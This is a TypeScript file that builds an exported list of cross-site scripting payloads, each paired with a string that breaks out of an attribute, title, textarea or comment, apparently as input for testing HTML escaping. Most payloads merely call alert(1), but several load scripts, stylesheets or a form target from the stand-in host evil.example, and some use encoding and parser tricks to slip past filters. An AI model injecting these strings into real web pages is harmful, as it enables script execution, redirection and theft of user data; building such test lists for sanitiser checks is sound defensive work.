/** What makes a browser run something, or leave, when it stands in a page as it is. */
const payloads: readonly string[] = [
  "<script>alert(1)</script>",
  "<ScRiPt src=//evil.example/x></sCrIpT>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
  "<math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<object data=javascript:alert(1)></object>",
  "<embed src=//evil.example/x.swf>",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<style>@import '//evil.example/x.css';</style>",
  "<form action=//evil.example><button>Continue</button></form>",
  "<button formaction=javascript:alert(1)>x</button>",
  "<input autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<body onload=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<a href=javascript:alert(1)>x</a>",
  "<a href='java&#115;cript:alert(1)'>x</a>",
  "<p style=background:url(javascript:alert(1))>",
  "<div data-sends-itself><form></form></div>",
  "<template><script>alert(1)</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
  "javascript:alert(1)",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "＜script＞alert(1)＜/script＞",
  "\u2028alert(1)\u2029",
  "${alert(1)} {{alert(1)}} <%= alert(1) %>",
  "<!--><script>alert(1)</script>-->",
  "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
];

/** What ends the place where a text stands: a value, a title, a text of several lines, a comment. */
const ends: readonly string[] = ["", '">', "'>", "</title>", "</textarea>", "-->", '" onmouseover="alert(1)" x="'];

/** Texts that run something on a page that does not make text of them. */
export const scriptTexts: readonly string[] = ends.flatMap((end) => payloads.map((payload) => end + payload));
